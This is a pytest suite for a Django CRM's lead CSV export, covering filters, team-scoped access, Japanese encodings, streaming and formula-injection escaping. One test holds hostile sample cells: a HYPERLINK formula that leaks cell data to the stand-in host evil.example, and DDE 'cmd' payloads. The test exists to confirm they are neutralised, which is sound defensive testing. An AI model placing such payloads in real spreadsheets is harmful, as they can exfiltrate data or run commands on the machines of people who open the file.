"""Leads → Export CSV: the list's filters, only the viewer's leads, Excel-proof encoding, no formula injection,
streamed in a fixed number of queries."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from leads.models import Lead
from leads.privacy.export import BUFFER_SIZE, csv_safe
from tests.leads.factories import make_lead

pytestmark = pytest.mark.django_db

EXPORT = reverse("leads:export")


def rows_of(response, encoding: str = "utf-8-sig") -> list[list[str]]:
    assert response.status_code == 200
    assert response.streaming
    body = b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(body.decode(encoding), newline="")))


def emails(rows: list[list[str]]) -> set[str]:
    return {row[1] for row in rows[1:]}


def test_cells_that_would_be_formulas_get_a_leading_quote(client, marketer):
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "title": "+cmd|' /C calc'!A0",
        "department": "x",
    }
    make_lead("inject@example.jp", company="@SUM(1+1)*cmd|' /C calc'!A0", **hostile)
    make_lead("minus@example.jp", name="-2+3", title="\tTAB", company="-1")
    make_lead("cr@example.jp", name="\rCR")
    make_lead("plain@example.jp", name="山田 太郎", title="部長", company="株式会社山田製作所")
    client.force_login(marketer)

    rows = rows_of(client.get(EXPORT, {"sort": "name"}))

    by_email = {row[1]: row for row in rows[1:]}
    name, _email, company, title = by_email["inject@example.jp"][:4]
    assert name == "'" + hostile["name"]
    assert company == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert title == "'" + hostile["title"]
    name, _email, company, title = by_email["minus@example.jp"][:4]
    assert (name, title, company) == ("'-2+3", "'\tTAB", "'-1")
    assert by_email["cr@example.jp"][0] == "'\rCR"
    assert by_email["plain@example.jp"][:4] == ["山田 太郎", "plain@example.jp", "株式会社山田製作所", "部長"]
    # No cell of the file starts with a formula character, whatever column it is in.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (row, cell)


def test_csv_safe_leaves_numbers_and_harmless_text_alone():
    assert csv_safe(-5) == -5
    assert csv_safe("") == ""
    assert csv_safe("a=b") == "a=b"
    assert csv_safe("＝１＋１") == "'＝１＋１"  # the full-width forms a Japanese IME types


def test_utf8_starts_with_a_bom_and_japanese_round_trips(client, marketer):
    make_lead("yamada@example.jp", name="山田 太郎", title="代表取締役", company="株式会社ヤマダ㈱")
    client.force_login(marketer)

    response = client.get(EXPORT)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="leads-')
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # Excel reads Japanese as mojibake without it
    assert b"\r\n" in body
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[1][:4] == ["山田 太郎", "yamada@example.jp", "株式会社ヤマダ㈱", "代表取締役"]
    assert rows[0][:4] == ["名前", "メールアドレス", "企業", "役職"]


def test_cp932_for_older_excel(client, marketer):
    make_lead("sato@example.jp", name="佐藤 花子", title="課長", company="髙橋工業")  # 髙: a CP932-only kanji
    make_lead("emoji@example.jp", name="絵文字 🎉")
    client.force_login(marketer)

    response = client.get(EXPORT, {"encoding": "cp932", "sort": "name"})

    assert response["Content-Type"] == "text/csv; charset=shift_jis"
    body = b"".join(response.streaming_content)
    assert not body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("cp932"), newline="")))
    by_email = {row[1]: row for row in rows[1:]}
    assert by_email["sato@example.jp"][:4] == ["佐藤 花子", "sato@example.jp", "髙橋工業", "課長"]
    assert by_email["emoji@example.jp"][0] == "絵文字 ?"  # not in CP932: replaced, the file still downloads


def test_an_unknown_encoding_falls_back_to_utf8(client, marketer):
    client.force_login(marketer)
    response = client.get(EXPORT, {"encoding": "utf-7"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_columns_and_values(client, marketer, owner):
    lead = make_lead("cols@example.jp", owner=owner, name="列 確認", title="部長", company="列株式会社")
    unsubscribed = dt.datetime(2026, 4, 1, 9, 30, tzinfo=dt.UTC)
    Lead.objects.filter(pk=lead.pk).update(
        fit_score=30, engagement_score=-5, total_score=25, lifecycle_stage="mql", unsubscribed_at=unsubscribed
    )
    lead.refresh_from_db()
    client.force_login(marketer)

    with translation.override("en"):
        rows = rows_of(client.get(EXPORT, HTTP_ACCEPT_LANGUAGE="en"))

    assert rows[0] == [
        "Name",
        "Email",
        "Company",
        "Job title",
        "Lifecycle stage",
        "Awareness stage",
        "Fit score",
        "Engagement score",
        "Score",
        "Owner",
        "Created at",
        "Unsubscribed at",
    ]
    created = timezone.localtime(lead.created_at).strftime("%Y-%m-%d %H:%M")
    assert rows[1] == [
        "列 確認",
        "cols@example.jp",
        "列株式会社",
        "部長",
        "MQL",
        "Unaware (latent)",
        "30",
        "-5",
        "25",
        "担当 太郎",
        created,
        "2026-04-01 18:30",  # Asia/Tokyo
    ]


def test_the_lists_filters_apply_to_the_whole_list_not_one_page(client, marketer, owner):
    for n in range(55):  # more than one page of the list (50)
        make_lead(f"hot{n}@example.jp", name=f"熱い {n}", company="対象商事")
    make_lead("cold@example.jp", name="冷たい", company="別会社")
    Lead.objects.filter(email__startswith="hot").update(total_score=80, lifecycle_stage="mql")
    client.force_login(marketer)

    rows = rows_of(client.get(EXPORT, {"q": "対象商事", "lifecycle": "mql", "page": "2"}))
    assert emails(rows) == {f"hot{n}@example.jp" for n in range(55)}

    rows = rows_of(client.get(EXPORT, {"score_max": "10"}))
    assert emails(rows) == {"cold@example.jp"}

    # An invalid filter is ignored, as on the list page.
    rows = rows_of(client.get(EXPORT, {"score_min": "many", "q": "冷たい"}))
    assert emails(rows) == {"cold@example.jp"}


def test_a_rep_exports_only_their_teams_leads(client, owner, teammate, outsider, marketer):
    make_lead("mine@example.jp", owner=owner)
    make_lead("teammates@example.jp", owner=teammate)
    make_lead("other-team@example.jp", owner=outsider)
    make_lead("unassigned@example.jp")

    client.force_login(owner)
    assert emails(rows_of(client.get(EXPORT))) == {"mine@example.jp", "teammates@example.jp"}
    # Asking for another team's rep does not widen what the rep may see.
    assert emails(rows_of(client.get(EXPORT, {"owner": str(outsider.pk)}))) == set()
    assert emails(rows_of(client.get(EXPORT, {"owner": "me"}))) == {"mine@example.jp"}

    client.force_login(outsider)
    assert emails(rows_of(client.get(EXPORT))) == {"other-team@example.jp"}

    client.force_login(marketer)
    assert len(emails(rows_of(client.get(EXPORT)))) == 4


def test_anonymous_visitors_are_sent_to_login(client):
    response = client.get(EXPORT)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_only_get(client, marketer):
    client.force_login(marketer)
    assert client.post(EXPORT).status_code == 405


def _queries_for_export(client) -> tuple[int, int]:
    with CaptureQueriesContext(connection) as queries:
        response = client.get(EXPORT, {"q": "件数"})
        rows = rows_of(response)
    return len(queries), len(rows) - 1


def test_the_number_of_queries_does_not_grow_with_the_rows(client, marketer, owner, teammate):
    client.force_login(marketer)
    for n in range(3):
        make_lead(f"q{n}@example.jp", owner=owner, company=f"件数{n}")
    few_queries, few_rows = _queries_for_export(client)
    for n in range(3, 60):
        make_lead(f"q{n}@example.jp", owner=teammate if n % 2 else owner, company=f"件数{n}")
    many_queries, many_rows = _queries_for_export(client)

    assert (few_rows, many_rows) == (3, 60)
    assert few_queries == many_queries
    # Session and user, the lead's custom fields (the filters' and the exported ones), then the leads with their
    # companies and owners in one SELECT (a server-side cursor on PostgreSQL reads it in batches, within that one
    # statement).
    assert many_queries <= 4


def test_a_long_list_is_streamed_in_chunks(client, marketer):
    long_title = "部長" * 90  # ~200 characters a row: 400 rows fill more than one chunk
    for n in range(400):
        make_lead(f"s{n}@example.jp", name=f"流 {n}", title=long_title)
    client.force_login(marketer)

    response = client.get(EXPORT)

    chunks = list(response.streaming_content)
    assert len(chunks) >= 2
    assert all(len(chunk) < BUFFER_SIZE * 4 for chunk in chunks)  # bounded (up to 3 bytes per character)
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))
    assert len(rows) == 401


def test_the_lead_list_links_to_the_export_with_its_filters(client, marketer):
    client.force_login(marketer)
    with translation.override("en"):
        html = client.get(
            reverse("leads:list"), {"q": "山田", "lifecycle": "mql"}, HTTP_ACCEPT_LANGUAGE="en"
        ).content.decode()
        partial = client.get(
            reverse("leads:list"), {"q": "佐藤"}, HTTP_HX_REQUEST="true", HTTP_ACCEPT_LANGUAGE="en"
        ).content.decode()
    assert f'href="{EXPORT}?q=%E5%B1%B1%E7%94%B0&amp;lifecycle=mql"' in html
    assert "Export CSV" in html
    assert "encoding=cp932" in html
    # The link sits in the results partial, so it follows the filters an HTMX request changes.
    assert f'href="{EXPORT}?q=%E4%BD%90%E8%97%A4"' in partial
